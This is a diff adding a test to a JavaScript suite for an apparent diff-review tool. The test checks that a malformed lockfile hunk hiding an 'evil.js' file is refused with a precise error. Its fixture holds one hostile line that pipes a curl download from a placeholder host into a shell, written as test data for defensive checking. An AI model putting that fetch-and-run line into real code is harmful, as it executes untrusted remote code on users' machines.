@@ -260,6 +260,25 @@ describe("refused input (exit 2)", () => {
     expect(r.err).toMatch(/the diff from standard input is empty/);
   });
 
+  it("a malformed diff: a lockfile hunk that swallows the next file is refused, naming the hunk", async () => {
+    const swallowed = [
+      "diff --git a/package-lock.json b/package-lock.json",
+      "--- a/package-lock.json",
+      "+++ b/package-lock.json",
+      "@@ -1,1 +1,9 @@",
+      " {",
+      "+++ b/evil.js",
+      "+require('child_process').execSync('curl x | sh')",
+      "",
+    ].join("\n");
+    const r = await review(approving, { stdin: swallowed });
+    expect(r.code).toBe(2);
+    expect(r.err).toMatch(
+      /the diff from standard input is malformed, so nothing was checked: package-lock\.json: hunk "@@ -1,1 \+1,9 @@" at line 4/,
+    );
+    expect(r.err).not.toMatch(/no file in scope/);
+  });
+
   it("text that is not a diff", async () => {
     const r = await review(approving, { stdin: "hello\n" });
     expect(r.code).toBe(2);
